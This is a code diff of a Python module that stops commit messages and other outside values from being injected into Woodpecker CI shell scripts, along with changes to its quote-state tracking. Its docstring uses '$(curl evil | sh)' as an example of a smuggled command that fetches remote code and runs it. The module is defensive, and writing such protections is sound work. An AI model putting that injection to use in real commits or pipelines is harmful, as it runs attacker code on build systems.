@@ -1,8 +1,8 @@
 """Values from outside as part of a shell script, without ever becoming script themselves.
 
-A commit message is whatever its author wrote: ``$(curl evil | sh)`` too. Woodpecker pastes it into the commands. Here a value
-that could mean something to a shell reaches the step as an environment variable, and the script gets ``${NAME}`` in its
-place. What the user sees is the same; what an attacker gets is text.
+A commit message is whatever its author wrote: ``$(curl evil | sh)`` too. Woodpecker pastes it into the commands. Here a
+value that could mean something to a shell reaches the step as an environment variable, and the script gets ``${NAME}``
+in its place. What the user sees is the same; what an attacker gets is text.
 """
 
 import re
@@ -13,7 +13,7 @@ OPEN, CLOSE = "\ue000", "\ue001"
 """Enclose the number of a value from outside, from the substitution until the YAML is read."""
 
 _MARK = re.compile(f"{OPEN}([0-9]+){CLOSE}")
-_SHELL_SAFE = re.compile(r"[A-Za-z0-9_./:@%+=,-]*")
+_SHELL_SAFE = re.compile(r"[A-Za-z0-9_./:@%+,-]*")
 
 
 @dataclass(frozen=True)
@@ -65,16 +65,19 @@ def _reference(found: OutsideValue, quote: str) -> str:
     return f"'\"${{{found.variable}}}\"'" if quote == "'" else f"${{{found.variable}}}"
 
 
-_QUOTING = re.compile(r"""\\.|(?:^|(?<=[\s;&|(]))\#[^\n]*|['"]""", re.DOTALL)
+# What may change the state of quoting: inside of nothing, of single and of double quotes.
+_QUOTING = {
+    "": re.compile(r"""\\.|(?:^|(?<=[\s;&|(]))\#[^\n]*|['"]""", re.DOTALL),
+    "'": re.compile("'"),
+    '"': re.compile(r"""\\.|["]""", re.DOTALL),
+}
 
 
 def _quote_after(text: str, quote: str) -> str:
     """The quote that is open at the end of ``text``. A wrong guess (here-documents) spoils looks, never safety."""
-    for token in _QUOTING.findall(text):
-        if quote == "'":
-            quote = "" if token.endswith("'") else quote
-        elif token == quote:
-            quote = ""
-        elif not quote and token in {"'", '"'}:
-            quote = token
+    end = 0
+    while token := _QUOTING[quote].search(text, end):
+        end = token.end()
+        if token[0] in {"'", '"'}:
+            quote = "" if quote else token[0]
     return quote
